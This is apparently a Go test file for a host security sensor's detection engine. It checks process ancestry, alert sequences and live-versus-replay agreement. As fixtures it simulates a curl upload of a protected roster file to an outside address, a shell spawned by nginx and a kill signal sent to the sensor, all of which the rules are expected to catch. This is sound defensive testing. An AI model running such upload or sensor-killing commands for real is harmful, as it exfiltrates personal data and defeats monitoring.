package rules

import (
	"fmt"
	"net/netip"
	"os"
	"testing"
	"time"

	"github.com/bansho-sec/bansho/internal/event"
	"github.com/bansho-sec/bansho/pipeline/ecs"
	"github.com/bansho-sec/bansho/pipeline/enrich"
)

// lineageSim builds kernel events of a process tree and runs them through
// a real enrichment stage whose /proc is an empty directory: everything
// the stage knows comes from the events.
type lineageSim struct {
	t     *testing.T
	stage *enrich.Stage
	now   time.Time
	start uint64
	procs map[uint32]event.Process
}

func newLineageSim(t *testing.T) *lineageSim {
	return &lineageSim{t: t, stage: enrich.New(enrich.Options{Host: benchHost, Proc: t.TempDir()}),
		now: time.Date(2026, 12, 1, 1, 0, 0, 0, time.UTC), start: 1000, procs: map[uint32]event.Process{}}
}

// ev enriches ev (stamped with the next time) and returns it.
func (s *lineageSim) ev(ev *event.Event) *event.Event {
	s.now = s.now.Add(time.Millisecond)
	ev.Time = s.now
	if !s.stage.Enrich(ev) {
		s.stage.Finish(ev)
	}
	return ev
}

// fork starts pid as a child of ppid (running its parent's program).
func (s *lineageSim) fork(pid, ppid uint32) *event.Event {
	par := s.procs[ppid]
	s.start += 1000
	k := par
	k.PID, k.TID, k.PPID, k.StartBoot, k.ParentStartBoot = pid, pid, ppid, s.start, par.StartBoot
	s.procs[pid] = k
	return s.ev(&event.Event{Op: event.OpFork, Proc: k, Fork: &event.Fork{ParentPID: ppid}})
}

func (s *lineageSim) exec(pid uint32, exe, cwd string, args ...string) *event.Event {
	k := s.procs[pid]
	if k.PID == 0 { // the first process: init
		s.start += 1000
		k = event.Process{PID: pid, TID: pid, StartBoot: s.start, AUID: event.NoUID}
	}
	k.Comm = args[0]
	s.procs[pid] = k
	return s.ev(&event.Event{Op: event.OpExec, Proc: k, Exec: &event.Exec{Filename: exe, Executable: exe, Args: args, Argc: uint32(len(args)), Cwd: cwd}})
}

// reparent makes pid's parent init (its parent ended).
func (s *lineageSim) reparent(pid uint32) {
	k := s.procs[pid]
	k.PPID, k.ParentStartBoot = 1, s.procs[1].StartBoot
	s.procs[pid] = k
}

func (s *lineageSim) login(pid uint32, auid uint32) {
	k := s.procs[pid]
	k.AUID, k.UID, k.EUID = auid, auid, auid
	s.procs[pid] = k
}

func (s *lineageSim) exit(pid uint32) *event.Event {
	return s.ev(&event.Event{Op: event.OpExit, Proc: s.procs[pid], Exit: &event.Exit{}})
}

func (s *lineageSim) open(pid uint32, path string) *event.Event {
	return s.ev(&event.Event{Op: event.OpFileOpen, Flags: event.FlagProtected, Proc: s.procs[pid],
		File: &event.File{Syscall: 257, Ret: 3, Path: path, Ino: 7, IMode: 0o100640}})
}

func (s *lineageSim) connect(pid uint32, dst string) *event.Event {
	return s.ev(&event.Event{Op: event.OpNetConnect, Proc: s.procs[pid],
		Net: &event.Net{Syscall: 42, Family: 2, Protocol: 6, Src: netip.MustParseAddrPort("10.0.0.5:40000"), Dst: netip.MustParseAddrPort(dst)}})
}

// boot starts init, sshd and a login shell (pid 200, login uid 1000).
func (s *lineageSim) boot() {
	s.exec(1, "/usr/lib/systemd/systemd", "/", "systemd")
	s.fork(100, 1)
	s.exec(100, "/usr/sbin/sshd", "/", "sshd", "-D")
	s.fork(200, 100)
	s.login(200, 1000)
	s.exec(200, "/usr/bin/bash", "/home/tanaka", "bash", "-l")
}

var liveDoc = []byte(`{"event":{"id":"x"},"bansho":{}}`)

// On a live event the engine takes the process's program, parent and
// ancestry from the Enrichment: here it sees only a file event of a
// process (this test's own pid) whose exec it never saw, and the stage's
// /proc is empty, yet every fact is right; the engine keeps no process
// table of its own. The same event without its Enrichment is not known.
func TestLiveProcessFromEnrichment(t *testing.T) {
	set := compileOne(t, `
- rule: Tar Under Backup
  desc: d.
  condition: >
    event.action == "open" and process.executable == "/usr/bin/tar" and
    process.command_line == "tar -czf /backup/x.tgz /srv/mynumber" and process.args_count == 4 and
    process.working_directory == "/var/backups" and
    process.parent.name == "backup" and process.parent.executable == "/usr/local/bin/backup" and
    process.parent.command_line == "backup --nightly" and
    len(bansho.process.ancestors.name) == 2 and bansho.process.ancestors.name[0] == "backup" and
    bansho.process.ancestors.name[1] == "systemd" and
    bansho.process.ancestors.executable[1] == "/usr/lib/systemd/systemd" and
    len(bansho.process.ancestors.entity_id) == 2 and
    bansho.process.ancestors.entity_id[0] == process.parent.entity_id
  output: o
  priority: notice
`, Options{})
	s := newLineageSim(t)
	s.exec(1, "/usr/lib/systemd/systemd", "/", "systemd")
	s.fork(900, 1)
	s.exec(900, "/usr/local/bin/backup", "/", "backup", "--nightly")
	me := uint32(os.Getpid())
	s.fork(me, 900)
	s.exec(me, "/usr/bin/tar", "/var/backups", "tar", "-czf", "/backup/x.tgz", "/srv/mynumber")
	ev := s.open(me, "/srv/mynumber/roster.csv")

	e := NewEngine(set, EngineOptions{Host: benchHost})
	if n := len(e.Eval(ev, liveDoc)); n != 1 {
		t.Errorf("%d alerts, want 1: the process, parent or ancestry is not the enrichment's", n)
	}
	if e.b.procs != nil || e.docs != nil {
		t.Error("the live engine made a process table of its own")
	}
	// Without the Enrichment the engine knows only what it has seen.
	bare := *ev
	bare.Enriched = nil
	if n := len(NewEngine(set, EngineOptions{Host: benchHost}).Eval(&bare, liveDoc)); n != 0 {
		t.Errorf("%d alerts from an event without its Enrichment", n)
	}
}

// A sequence by lineage continues on an event of a descendant through
// the Enrichment's ancestry: a grandchild of the reader, and a process it
// started that was then reparented to init (a double fork); not a
// process of another session.
func TestLiveSequenceThroughEnrichedAncestry(t *testing.T) {
	set := compileOne(t, `
- rule: Read Then Connect
  desc: d.
  sequence:
    by: lineage
    within: 1m
    steps:
      - condition: event.action == "open" and bansho.file.protected
      - condition: event.action == "connect"
  output: o
  priority: notice
`, Options{})
	s := newLineageSim(t)
	s.boot()
	// The engine sees only the file and network events: the lineage is
	// the stage's.
	e := NewEngine(set, EngineOptions{Host: benchHost})
	eval := func(ev *event.Event) []*event.Event { return e.Eval(ev, liveDoc) }

	if n := len(eval(s.open(200, "/srv/mynumber/roster.csv"))); n != 0 {
		t.Fatalf("%d alerts on the read", n)
	}
	// Another session's process: not a descendant.
	s.fork(700, 100)
	s.exec(700, "/usr/bin/curl", "/", "curl", "https://203.0.113.5/")
	if n := len(eval(s.connect(700, "203.0.113.5:443"))); n != 0 {
		t.Errorf("%d alerts for another session's connection", n)
	}
	// bash -> subshell -> curl: the reader is the grandparent.
	s.fork(300, 200)
	s.fork(400, 300)
	s.exec(400, "/usr/bin/curl", "/home/tanaka", "curl", "-T", "roster.csv", "https://203.0.113.5/")
	if a := eval(s.connect(400, "203.0.113.5:443")); len(a) != 1 || len(a[0].Alert.Events) != 2 {
		t.Errorf("grandchild's connection: %d alerts, want 1 linking 2 events", len(a))
	}
	// Again, through a double fork: 500 starts 600 and ends; 600 is
	// reparented to init, then execs and connects.
	eval(s.open(200, "/srv/mynumber/roster.csv"))
	s.fork(500, 200)
	s.fork(600, 500)
	s.exit(500)
	s.reparent(600)
	s.exec(600, "/usr/bin/curl", "/", "curl", "https://203.0.113.5/")
	ev := s.connect(600, "203.0.113.5:443")
	if p := ev.Enriched.Parent; p == nil || p.PID != 1 {
		t.Fatalf("the reparented process's parent is %+v, want init", p)
	}
	if n := len(eval(ev)); n != 1 {
		t.Errorf("reparented descendant's connection: %d alerts, want 1", n)
	}
	if e.b.procs != nil {
		t.Error("the live engine made a process table of its own")
	}
}

// Replaying the documents of live events (what the store holds) gives
// the alerts the live engine gave, with the default pack, for rules that
// judge the parent (a shell under a web server), the ancestry (a backup
// program's child, excepted) and a sequence by lineage.
func TestReplayGivesLiveAlerts(t *testing.T) {
	opts := Options{Calendar: DefaultCalendar(), Lists: map[string][]string{"backup_programs": {"/usr/local/bin/backup"}}}
	set, err := Load(packDir, opts)
	if err != nil {
		t.Fatal(err)
	}
	s := newLineageSim(t)
	s.boot()
	var evs []*event.Event
	add := func(ev *event.Event) { evs = append(evs, ev) }
	// An upload by a grandchild of the reader.
	add(s.open(200, "/srv/mynumber/roster.csv"))
	add(s.fork(300, 200))
	add(s.fork(400, 300))
	add(s.exec(400, "/usr/bin/curl", "/home/tanaka", "curl", "-T", "roster.csv", "https://203.0.113.5/"))
	add(s.connect(400, "203.0.113.5:443"))
	// A shell started by a web server.
	add(s.fork(800, 1))
	add(s.exec(800, "/usr/sbin/nginx", "/", "nginx"))
	add(s.fork(801, 800))
	add(s.exec(801, "/bin/sh", "/", "sh", "-c", "id"))
	// A backup program's child reads protected data: routine.
	add(s.fork(900, 1))
	add(s.exec(900, "/usr/local/bin/backup", "/", "backup", "--nightly"))
	add(s.fork(901, 900))
	add(s.exec(901, "/usr/bin/tar", "/var/backups", "tar", "-czf", "/backup/x.tgz", "/srv/mynumber"))
	add(s.open(901, "/srv/mynumber/roster.csv"))

	enc := &ecs.Encoder{Host: benchHost}
	live := NewEngine(set, EngineOptions{Host: benchHost})
	replay := NewEngine(set, EngineOptions{Host: benchHost})
	got := map[string][2]int{}
	for i, ev := range evs {
		doc := enc.Append(nil, ev)
		for _, a := range live.Eval(ev, doc) {
			c := got[a.Alert.RuleName]
			c[0]++
			got[a.Alert.RuleName] = c
		}
		alerts, err := replay.EvalDoc(doc)
		if err != nil {
			t.Fatalf("event %d: %v", i, err)
		}
		for _, a := range alerts {
			c := got[a.Alert.RuleName]
			c[1]++
			got[a.Alert.RuleName] = c
		}
	}
	for rule, c := range got {
		if c[0] != c[1] {
			t.Errorf("%s: %d alerts live, %d in replay", rule, c[0], c[1])
		}
	}
	for _, rule := range []string{"Shell or Interpreter Started by a Server", "Protected Data Read Then Outbound Connection"} {
		if got[rule][0] != 1 {
			t.Errorf("%s: %d alerts live, want 1 (all: %v)", rule, got[rule][0], got)
		}
	}
	// The login shell's read alerts; the backup's tar is excepted.
	if n := got["Protected Data Read by Unexpected Program"][0]; n != 1 {
		t.Errorf("Protected Data Read by Unexpected Program: %d alerts live, want 1 (all: %v)", n, fmt.Sprint(got))
	}
}

// A signal to the sensor (an event the engine reads from its document)
// takes its ancestry from the Enrichment too: a package upgrade that
// restarts the sensor is routine work, live as in replay; the same
// signal from an administrator's shell is tampering.
func TestLiveSelfEventLineage(t *testing.T) {
	set, err := Load(packDir, Options{Calendar: DefaultCalendar()})
	if err != nil {
		t.Fatal(err)
	}
	s := newLineageSim(t)
	s.boot()
	s.fork(300, 200)
	s.exec(300, "/usr/bin/apt-get", "/", "apt-get", "upgrade")
	s.fork(301, 300)
	s.exec(301, "/usr/bin/dpkg", "/", "dpkg", "--configure", "-a")
	s.fork(302, 301)
	s.exec(302, "/usr/bin/kill", "/", "kill", "-TERM", "4242")
	s.fork(400, 200)
	s.exec(400, "/usr/bin/kill", "/", "kill", "-TERM", "4242")
	signal := func(pid uint32) *event.Event {
		return s.ev(&event.Event{Op: event.OpSelfSignal, Flags: event.FlagSelf, Proc: s.procs[pid],
			Self: &event.Self{Signal: 15, TargetPID: 4242, TargetTID: 4242}})
	}
	enc := &ecs.Encoder{Host: benchHost}
	for _, tc := range []struct {
		pid  uint32
		want int
	}{{302, 0}, {400, 1}} {
		ev := signal(tc.pid)
		doc := enc.Append(nil, ev)
		n := 0
		for _, a := range NewEngine(set, EngineOptions{Host: benchHost}).Eval(ev, doc) {
			if a.Alert.RuleName == "Sensor Tampering" {
				n++
			}
		}
		if n != tc.want {
			t.Errorf("kill by pid %d (ancestors %q): %d Sensor Tampering alerts live, want %d", tc.pid, ev.Enriched.Lineage, n, tc.want)
		}
	}
}
